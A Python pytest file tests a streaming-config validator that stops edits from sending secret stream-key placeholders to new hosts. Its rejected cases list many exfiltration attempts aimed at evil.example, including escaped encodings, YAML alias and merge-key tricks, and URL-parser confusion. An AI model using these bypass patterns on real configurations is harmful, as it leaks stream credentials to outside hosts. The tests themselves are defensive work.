"""By way of a page, a variable is sent only where the file sends it already, however the edit is written."""

import pytest

from sr4k.errors import OptionError
from sr4k.service.channel_file import service_in
from sr4k.service.variable_places import check_variables

BEFORE = r"""
channels:
  one:
    source: rtmp://in.example/live/${IN_KEY}
    targets: ["rtmp://${HOST}/live/${OUT_KEY}", "/srv/${DAY}.mkv", "rtmp://${USER}@login.example/app/x", "${WHOLE}"]
  two:
    source: pattern://64x48@9
    targets:
      - rtmp://spare.example:1936/app/plain
"""
PLAIN, PATTERN = "rtmp://spare.example:1936/app/plain", "source: pattern://64x48@9"


def edited(old: str, new: str) -> None:
    assert old in BEFORE
    check_variables(service_in(BEFORE, "file"), service_in(BEFORE.replace(old, new), "file"))


@pytest.mark.parametrize(
    "target",
    [
        "rtmp://in.example/live/${IN_KEY}",
        "RTMP://IN.example:1935/other/${IN_KEY}_hd?again=${IN_KEY}",
        "rtmp://${HOST}/live/${OUT_KEY}_hd",
        "rtmp://${USER}@login.example/app/y",
        "/srv/${DAY}.mkv",
        "${WHOLE}",
        "rtmp://evil.example/app/$${IN_KEY}",
    ],
)
def test_a_variable_may_be_used_again_where_it_leads_already(target: str) -> None:
    edited(PLAIN, f'"{target}"')


@pytest.mark.parametrize(
    "target",
    [
        '"rtmp://evil.example/app/${IN_KEY}"',
        "rtmp://evil.example/app/${IN_KEY}  # plain",
        r'"rtmp://evil.example/app/\x24{IN_KEY}"',
        r'"rtmp://evil.example/app/\u0024\x7bIN_KEY}"',
        ">-\n        rtmp://evil.example/app/${IN_KEY}",
        '!!str "rtmp://evil.example/app/${IN_KEY}"',
        '"rtmp://in.example@evil.example/${IN_KEY}"',
        '"rtmp://evil.example?host=in.example/${IN_KEY}"',
        '"rtmp://evil.example#@in.example/${IN_KEY}"',
        r'"rtmp://evil.example\\@in.example/${IN_KEY}"',
        '"rtmp://${IN_KEY}@in.example/live/x"',
        '"rtmp://in.example:1936/live/${IN_KEY}"',
        '"rtmp://in.example:${IN_KEY}/live/x"',
        '"rtmps://in.example/live/${IN_KEY}"',
        '"rtmp://in.example.${IN_KEY}.evil.example/live/x"',
        '"rtmp://in.example${IN_KEY}"',
        '"rtmp://${IN_KEY}/live/x"',
        '"rtmp://in.example/live/${IN_KEY}${OUT_KEY}"',
        '"rtmp://guessed.example/live/${OUT_KEY}"',
        '"rtmp://$$${HOST}/live/x"',
        '"rtmp://login.example/app/${USER}"',
        '"/srv/videos/${IN_KEY}.mkv"',
        '"/srv/videos/${DAY}.mkv"',
        '"rtmp://evil.example/app/${WHOLE}"',
        '"srt://evil.example:9000?passphrase=${IN_KEY}"',
        '"rtmp://in.example/live/${UNUSED}"',
    ],
)
def test_a_variable_can_not_be_sent_elsewhere(target: str) -> None:
    with pytest.raises(OptionError, match=r"channels.two: the file has \$\{\w+\} in no address with the same scheme"):
        edited(PLAIN, target)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("source: rtmp://in.example/live/${IN_KEY}", 'source: "http://127.0.0.1:19999/x/${IN_KEY}"'),
        (PATTERN, "size: &stolen 'http://evil.example/${IN_KEY}'\n    source: *stolen"),
        (PATTERN, "<<: {source: 'http://evil.example/${IN_KEY}'}"),
    ],
)
def test_sources_aliases_and_merged_keys_are_looked_at_as_they_are_understood(old: str, new: str) -> None:
    with pytest.raises(OptionError, match=r"the file has \$\{IN_KEY\} in no address"):
        edited(old, new)
